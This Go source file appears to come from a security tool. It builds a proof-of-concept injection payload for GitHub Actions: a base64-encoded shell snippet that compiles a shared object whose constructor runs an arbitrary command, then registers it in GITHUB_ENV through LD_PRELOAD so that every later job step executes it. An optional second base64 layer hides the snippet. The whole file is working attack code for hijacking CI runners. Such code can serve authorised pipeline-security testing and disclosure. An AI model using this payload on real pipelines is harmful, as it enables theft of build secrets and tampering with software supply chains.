/*
Copyright 2025 Hare Krishna Rai

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

// Package ldpreload builds the proof of concept used to show that a command
// injection in one step compromises every later step of the same job: a
// shared object is compiled in the workspace and registered in GITHUB_ENV,
// so the runner preloads it into each subsequent process.
package ldpreload

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// SharedObject is the path the payload compiles to
const SharedObject = "$GITHUB_WORKSPACE/ldpreload-poc.so"

const constructorTemplate = `#include <stdlib.h>
void __attribute__((constructor)) so_main() { unsetenv("LD_PRELOAD"); system("%s"); }
`

// Source returns the C code running command once when loaded
func Source(command string) string {
	escaped := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(command)
	return fmt.Sprintf(constructorTemplate, escaped)
}

// Payload returns the shell snippet to inject. It compiles Source(command)
// and preloads it in the following steps. With encode the snippet itself is
// base64 encoded.
func Payload(command string, encode bool) string {
	ldcode := base64.StdEncoding.EncodeToString([]byte(Source(command)))
	code := fmt.Sprintf(`echo %s | base64 -d | cc -fPIC -shared -xc - -o %s; echo "LD_PRELOAD=%s" >> $GITHUB_ENV`,
		ldcode, SharedObject, SharedObject)
	if encode {
		return base64.StdEncoding.EncodeToString([]byte(code))
	}
	return code
}
